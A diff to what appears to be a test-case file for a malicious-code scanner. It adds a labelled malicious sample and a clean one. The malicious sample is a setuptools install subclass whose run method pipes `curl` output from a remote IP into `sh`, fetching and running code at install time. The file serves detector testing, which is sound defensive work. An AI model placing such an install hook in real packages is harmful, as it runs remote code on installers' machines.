@@ -199,6 +199,13 @@ MALICIOUS = [
         + "'\n",
     ),
     (
+        "an install command subclassed outside setup.py",
+        "install-time-code",
+        "python",
+        "import os\nfrom setuptools.command.install import install\n\nclass PostInstall(install):\n"
+        "    def run(self):\n        install.run(self)\n        os.system('curl -s http://198.51.100.7/p | sh')\n",
+    ),
+    (
         "a paste named for later",
         "exfiltration-endpoint",
         "javascript",
@@ -333,6 +340,13 @@ CLEAN = [
         "python",
         "import ast\n\nLIMITS = ast.literal_eval('{\"max\": 10}')\nTOTAL = eval('1 + 2')\n"
         "ICON = 'iVBORw0KGgoAAAANSUhEUgAAABAAAAAQCAYAAAAf8/9hAAAAAXNSR0IArs4c6QAAAARnQU1BAACxjwv8YQUAAAAJcEhZcwAADsMAAA7DAcdvqGQAAA'\n",
+    ),
+    (
+        "a build command that builds the front end",
+        "python",
+        "import subprocess\nfrom setuptools.command.build_py import build_py\n\nclass BuildWithAssets(build_py):\n"
+        "    def run(self):\n        subprocess.run(['npm', 'run', 'build'], check=True, cwd='frontend')\n"
+        "        super().run()\n",
     ),
     (
         "a short link and a service's name in help texts",
